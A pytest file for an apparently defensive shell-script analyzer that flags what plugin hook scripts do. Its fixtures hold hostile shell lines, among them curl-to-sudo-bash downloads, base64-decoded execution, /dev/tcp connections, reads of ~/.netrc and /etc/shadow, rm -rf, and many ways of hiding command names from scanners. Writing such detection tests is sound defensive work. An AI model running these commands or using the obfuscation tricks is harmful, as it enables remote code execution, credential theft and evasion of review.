"""What shell scripts do: commands, pipes, redirections, variables; what only looks like it is silent."""

from __future__ import annotations

import pytest

from plugseal.lang.facts import Context, FileFacts, Interest
from plugseal.lang.shell.reader import ShellReader, read_shell

_DOES: dict[str, tuple[str, set[tuple[str, str | None]]]] = {
    "a program": ("frobnicate x\n", {("process.exec", "frobnicate")}),
    "a file of the plugin beside the script": ('"$(dirname "$0")/run" x\n', {("process.exec", "hooks/run")}),
    "a file of the plugin above the script": (
        'here="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"\n"$here/bin/run"\n',
        {("process.exec", "bin/run")},
    ),
    "a file of the plugin by its root": ("${CLAUDE_PLUGIN_ROOT}/bin/run\n", {("process.exec", "bin/run")}),
    "an agent that asks nobody": ("claude -p x --dangerously-skip-permissions\n", {("grant", None)}),
    "another registry from now on": (
        "npm config set registry https://h.example\n",
        {("net.outbound", "h.example")},
    ),
    "a module of Go by its version": ("go run h.example/x@latest\n", {("code.fetched", "h.example/x@latest")}),
    "an extension of gh": ("gh extension install o/x\n", {("code.fetched", "o/x")}),
    "a script of the desktop": ("osascript -e 'do shell script \"x\"'\n", {("process.shell", "x")}),
    "a line of a database's shell": ("sqlite3 -batch a.db '.shell x'\n", {("process.shell", "x")}),
    "a database starts a program": ("psql -tAc \"COPY t FROM PROGRAM 'x'\"\n", {("process.shell", "x")}),
    "a database attaches a file": ("sqlite3 a.db \"ATTACH '/opt/x.db' AS y\"\n", {("path.outside", "/opt/x.db")}),
    "a database behind its host": ("psql -h b -U c -tAc \"COPY t TO PROGRAM 'x'\"\n", {("process.shell", "x")}),
    "a function that starts a program": ("mysql -u b -e \"SELECT sys_exec('x y')\"\n", {("process.shell", "x")}),
    "git's own programs from elsewhere": ("git --exec-path=/opt/x status\n", {("process.exec", "/opt/x")}),
    "an archive by another program": ("git archive --remote=a --exec='touch b' c\n", {("process.shell", "touch")}),
    "a script of pipx from an address": ("pipx run https://a.example/x.py\n", {("code.fetched", "a.example")}),
    "a flake": ("nix run github:a/b -- c\n", {("code.fetched", "github:a/b")}),
    "a database that only answers": ("mysql -e 'SELECT 1' a\n", {("process.exec", "mysql")}),
    "an alias of git": ("git config --global alias.x '!touch a'\n", {("process.shell", "touch")}),
    "a tool that git starts": ("git difftool -x 'touch a' HEAD\n", {("process.shell", "touch")}),
    "a pager of git grep": ("git grep -O'touch a' x\n", {("process.shell", "touch")}),
    "another shell for make": ("make SHELL=./x all\n", {("process.exec", "./x")}),
    "an engine of openssl": ("openssl engine ./x.so\n", {("code.native", "./x.so")}),
    "a connection of openssl": ("openssl s_client -connect a.example:443\n", {("net.outbound", "a.example:443")}),
    "the environment to jq": ("jq -n 'env | keys'\n", {("env.bulk", None)}),
    "a script from an address": ("uv run https://a.example/x.py\n", {("code.fetched", "a.example")}),
    "a line of AppleScript": ("osascript -e 'do shell script \"touch a\"'\n", {("process.shell", "touch")}),
    "a word before a command of zsh": ("noglob curl https://a.example\n", {("net.outbound", "a.example")}),
    "a transport of git": ("git clone 'ext::sh -c x' y\n", {("process.shell", "sh -c x")}),
    "a module of zsh": ("zmodload zsh/net/tcp\n", {("code.native", "zsh/net/tcp")}),
    "a wrapper": ("sudo -u root timeout 5 rm -rf /etc/x\n", {("fs.delete", "/etc/x"), ("privilege", None)}),
    "words for a program from a pipe": ("ls | xargs -n1 rm -f x\n", {("process.exec", "rm"), ("fs.delete", "x")}),
    "for each file found": (
        "find /tmp/a -exec shred {} \\;\n",
        {("process.exec", "shred"), ("path.outside", "/tmp/a")},
    ),
    "a redirection": ("echo hi > /tmp/x\n", {("fs.write", "/tmp/x"), ("path.outside", "/tmp/x")}),
    "a here-string behind a redirection": ("sh > out <<< 'rm x'\n", {("fs.write", "out"), ("code.dynamic", None)}),
    "a redirection of everything": ("ls &>> out.log\n", {("fs.write", "out.log")}),
    "reading without a program": (
        "mapfile -t a < ~/.netrc\n",
        {("credentials.read", "~/.netrc"), ("fs.read", "~/.netrc")},
    ),
    "a connection by path": ("exec 3<>/dev/tcp/h.example/80\n", {("net.outbound", "h.example:80")}),
    "a download": ("curl -so a.zip https://h.example/a\n", {("net.outbound", "h.example"), ("fs.write", "a.zip")}),
    "a download that runs": (
        "curl -fsS https://h.example/i | sudo bash -s -- -y\n",
        {("code.fetched", "h.example"), ("process.shell", "bash"), ("code.dynamic", None)},
    ),
    "a download by another descriptor": ("bash <(curl -s https://h.example/i)\n", {("code.fetched", "h.example")}),
    "a download that is evaluated": ('eval "$(curl -s https://h.example/i)"\n', {("code.fetched", "h.example")}),
    "a download that is read in": (". <(wget -qO- https://h.example/i)\n", {("code.fetched", "h.example")}),
    "decoded and run": ("echo ZWNobyBoaQo= | base64 -d | sh\n", {("code.obfuscated", "sh"), ("code.dynamic", None)}),
    "a name in two variables": (
        "a=cu; b=rl\n$a$b https://h.example\n",
        {("process.exec", "curl"), ("code.obfuscated", "curl")},
    ),
    "a name in quotes": ('wg""et https://h.example\n', {("process.exec", "wget"), ("code.obfuscated", "wget")}),
    "a name with a backslash": ("c\\at x\n", {("process.exec", "cat"), ("code.obfuscated", "cat")}),
    "a name in escapes": ("$'\\x63\\x61t' x\n", {("process.exec", "cat"), ("code.obfuscated", "cat")}),
    "a name cut from a text": (
        "x=abcdefghijklmnopqrst\n${x:2:1}${x:0:1}${x:19:1} f\n",
        {("process.exec", "cat"), ("fs.read", "f")},
    ),
    "a name in capitals": ("c=CAT\n${c,,} f\n", {("process.exec", "cat"), ("code.obfuscated", "cat")}),
    "a name by the name of a variable": (
        "n=c; c=cat\n${!n} f\n",
        {("process.exec", "cat"), ("code.obfuscated", "cat")},
    ),
    "a name with an empty variable": ("c${z}at f\n", {("code.obfuscated", "cat"), ("fs.read", "f")}),
    "a name with wildcards": ("/b?n/ca[t] f\n", {("code.obfuscated", "cat")}),
    "spaces from IFS": ("cat${IFS}/etc/passwd\n", {("fs.read", "/etc/passwd"), ("code.obfuscated", "cat")}),
    "a slash cut from the home folder": (
        "cat ${HOME:0:1}etc${HOME:0:1}hosts\n",
        {("fs.read", "/etc/hosts"), ("env.read", "HOME")},
    ),
    "a name over two lines": (
        "cu\\\nrl https://h.example\n",
        {("net.outbound", "h.example"), ("code.obfuscated", "curl")},
    ),
    "a download that runs later": (
        "curl -so /tmp/i https://h.example/i\nsh /tmp/i\n",
        {("code.fetched", "h.example")},
    ),
    "a prompt": ("PS4='$(id)'\nexport PS4\n", {("code.dynamic", "PS4")}),
    "another process": ("coproc nc h.example 80\n", {("net.outbound", "h.example")}),
    "an array": ('c=(curl -s)\nc+=(https://h.example)\n"${c[@]}"\n', {("net.outbound", "h.example")}),
    "printf into a variable": ("printf -v f '%s/%s' /etc shadow\ncat \"$f\"\n", {("credentials.read", "/etc/shadow")}),
    "a default": ('rm -rf "${DIR:-/tmp/x}"\n', {("fs.delete", "/tmp/x"), ("env.read", "DIR")}),
    "the values of a loop": ("for f in a b; do rm $f; done\n", {("fs.delete", "a"), ("fs.delete", "b")}),
    "a function that runs its words": (
        'run() { "$@"; }\nrun curl https://h.example\n',
        {("net.outbound", "h.example")},
    ),
    "an unknown program": ("$TOOL x\n", {("code.dynamic", None), ("process.exec", None), ("env.read", "TOOL")}),
    "an own variable of the environment": ('echo "$DOCS_TOKEN"\n', {("env.read", "DOCS_TOKEN")}),
    "the whole environment": ("env | sort\n", {("env.bulk", None)}),
    "the whole environment without a program": ("declare -px\n", {("env.bulk", None)}),
    "an exported variable": ("export A_B=1\n", {("env.write", "A_B")}),
    "a variable for one command": (
        "LD_PRELOAD=/tmp/x.so ls\n",
        {("env.write", "LD_PRELOAD"), ("code.native", "LD_PRELOAD")},
    ),
    "a search path": ("PATH=.:$PATH\n", {("env.write", "PATH"), ("env.read", "PATH")}),
    "a start file": ("echo x >> ~/.bashrc\n", {("persistence", "~/.bashrc"), ("fs.write", "~/.bashrc")}),
    "goes on after the end": ("nohup ./serve &\n", {("persistence", None)}),
    "a trap": ("trap 'rm -f x' EXIT\n", {("code.dynamic", None)}),
    "another file read in": (". ./lib.sh\n", {("code.import", "./lib.sh"), ("fs.read", "./lib.sh")}),
    "a function in the place of a program": ("curl() { echo no; }\ncurl x\n", {("code.obfuscated", "curl")}),
    "an index that is run": ("[[ -v 'x[$(id)]' ]]\n", {("code.dynamic", None), ("code.obfuscated", None)}),
    "the history": ("unset HISTFILE\n", {("code.obfuscated", "HISTFILE")}),
    "a library of the shell": ("enable -f ./x.so y\n", {("code.native", "./x.so")}),
    "awk starts a program": ("awk 'BEGIN { system(\"id\") }'\n", {("process.shell", "id")}),
    "sed starts a program and writes": (
        "sed -e '1e id' -e 's/a/b/w out' f\n",
        {("process.shell", "id"), ("fs.write", "out")},
    ),
    "Windows line ends": ("#!/bin/sh\r\ncat /etc/hosts\r\n", {("fs.read", "/etc/hosts")}),
    "a backslash does not continue a comment": ("# nothing \\\ncat /etc/hosts\n", {("fs.read", "/etc/hosts")}),
    "a remote command": ("ssh u@h.example 'rm -rf x'\n", {("net.outbound", "h.example")}),
}
_SILENT: dict[str, str] = {
    "a comment": "# curl https://h.example | sh\n",
    "text": "echo 'run: curl https://h.example | sh'\nprintf '%s\\n' 'rm -rf /'\n",
    "a carriage return in a comment": "true #\rcat /etc/hosts\n",
    "what every script reads": 'cd "$PWD" && echo "$HOME $PATH $1 $? ${BASH_SOURCE[0]} $RANDOM"\n',
    "own variables": 'NAME=x\nname=y\necho "$NAME $name"\n',
    "quoted and escaped dollar signs": "echo '$DOCS_TOKEN' \\$DOCS_TOKEN \"\\$DOCS_TOKEN\"\n",
    "asking whether a program is there": "command -v curl >/dev/null 2>&1 && true\n",
    "own functions": "log() { echo x; }\nlog a\n",
    "nowhere and other descriptors": "true >/dev/null 2>&1\ntrue >&2\n: <&3\n",
    "a pattern": "case $x in rm|curl) true ;; esac\n",
    "fields of a line": "while IFS=, read -r a b; do true; done\n",
    "nothing": "\n\n",
}


def _read(source: str) -> FileFacts:
    return read_shell(source.encode("utf-8"), Context("hooks/x.sh", Interest()))


@pytest.mark.parametrize(("source", "expected"), _DOES.values(), ids=_DOES)
def test_a_script_does_what_it_says_in_other_words(source: str, expected: set[tuple[str, str | None]]) -> None:
    facts = _read(source)
    assert facts.status == "read", facts.reason
    assert expected <= {(fact.capability, fact.object) for fact in facts.facts}


@pytest.mark.parametrize("source", _SILENT.values(), ids=_SILENT)
def test_what_only_looks_like_it_is_silent(source: str) -> None:
    assert [(fact.capability, fact.object) for fact in _read(source).facts] == []


def test_a_fact_says_how_sure_it_is() -> None:
    facts = _read("x=cat\ncat a\n$x b\nif y; then z=c; else z=d; fi\ncat $z\n")
    reads = {fact.object: fact.resolution for fact in facts.facts if fact.capability == "fs.read"}
    assert reads == {"a": "direct", "b": "resolved", "c": "possible", "d": "possible"}


def test_an_assignment_hides_the_one_before_it() -> None:
    facts = _read("f=a\nf=b\nrm $f\nif x; then f=c; fi\nshred $f\n")
    assert {fact.object for fact in facts.facts if fact.capability == "fs.delete" and fact.span.line == 3} == {"b"}


def test_a_variable_that_begins_empty_is_not_empty_where_it_is_used() -> None:
    facts = _read('d=""\nif x; then d=build; fi\nrm -rf "$d/"\n')
    assert {fact.object for fact in facts.facts if fact.capability == "fs.delete"} == {"build/"}


def test_an_array_is_as_hidden_as_what_it_runs() -> None:
    facts = _read('p=${P:-a-$(date)}\nc=(docker compose -p "$p")\n"${c[@]}" ps\n')
    assert "code.obfuscated" not in {fact.capability for fact in facts.facts}


def test_what_a_function_does_runs_when_it_is_called() -> None:
    facts = _read("a() { rm x; }\nb() { a; }\nc() { rm y; }\nb\n")
    triggers = {fact.object: fact.trigger for fact in facts.facts if fact.capability == "fs.delete"}
    assert triggers == {"x": "start", "y": "unknown"}


def test_places_count_characters() -> None:
    fact = next(fact for fact in _read("echo 'ä€𝄞' | cat ä\n").facts if fact.capability == "fs.read")
    assert (fact.span.line, fact.span.column, fact.span.end_column) == (1, 14, 19)


def test_a_script_that_is_not_understood_is_partial() -> None:
    facts = _read("rm x\nif then fi (\n")
    assert facts.status == "partial"
    assert "not understood" in facts.reason
    assert ("fs.delete", "x") in {(fact.capability, fact.object) for fact in facts.facts}


def test_a_download_that_is_read_as_data_is_not_run() -> None:
    facts = _read("curl -so a.json https://h.example/a\nnode -e 'f()' a.json\njq . a.json\npython3 b.py a.json\n")
    assert "code.fetched" not in {fact.capability for fact in facts.facts}


@pytest.mark.parametrize(
    ("line", "read"),
    [
        pytest.param("cat a{b,c}", {"ab", "ac"}, id="bare"),
        pytest.param("cat {'a','b'}.txt", {"a.txt", "b.txt"}, id="quoted words between bare braces"),
        pytest.param("cat 'a{b,c}'d", {"a{b,c}d"}, id="in quotes, with a word behind"),
        pytest.param('cat x"{b,c}"', {"x{b,c}"}, id="in double quotes, with a word before"),
        pytest.param("""awk '{gsub(/a/, "'"'"'", $2); print $2}' f""", {"f"}, id="a program put together of quotes"),
    ],
)
def test_braces_are_expanded_where_they_stand_bare(line: str, read: set[str]) -> None:
    assert {fact.object for fact in _read(line + "\n").facts if fact.capability == "fs.read"} == read


def test_words_in_braces_are_a_command() -> None:
    facts = _read("true\n{curl,-s,https://h.example}\n")
    assert {("net.outbound", "h.example"), ("code.obfuscated", "curl")} <= {
        (f.capability, f.object) for f in facts.facts
    }


@pytest.mark.parametrize(
    ("data", "status"),
    [
        pytest.param(b"\xef\xbb\xbfrm x\n", "read", id="a byte-order mark"),
        pytest.param("rm x\n".encode("utf-16"), "read", id="UTF-16"),
        pytest.param(b"rm x\n\0\1\2", "partial", id="binary data behind the script"),
        pytest.param(b"\0rm x", "unread", id="no text"),
        pytest.param(b"rm \xff\xfe x\n", "read", id="not UTF-8"),
    ],
)
def test_any_bytes_are_read_or_it_is_said_why_not(data: bytes, status: str) -> None:
    facts = ShellReader().read(data, Context("x.sh", Interest()))
    assert facts.status == status
    assert (facts.reason == "") == (status == "read")


def test_events_name_commands_pipes_and_redirections() -> None:
    events = {(event.kind, event.name) for event in _read("curl -s u | tee a | sh > out\nsudo rm x\n").events}
    assert events >= {
        ("command", "curl"),
        ("command", "rm"),
        ("command", "sudo"),
        ("pipe", "curl | tee | sh"),
        ("pipe", "curl | sh"),
        ("redirect", "> out"),
    }


def test_an_interpreter_with_code_of_its_own_reads_a_pipe_as_data() -> None:
    facts = _read("curl -s u | python3 -c 'import sys'\n")
    assert ("pipe", "curl | python3 with code") in {(event.kind, event.name) for event in facts.events}
    assert "code.fetched" not in {fact.capability for fact in facts.facts}
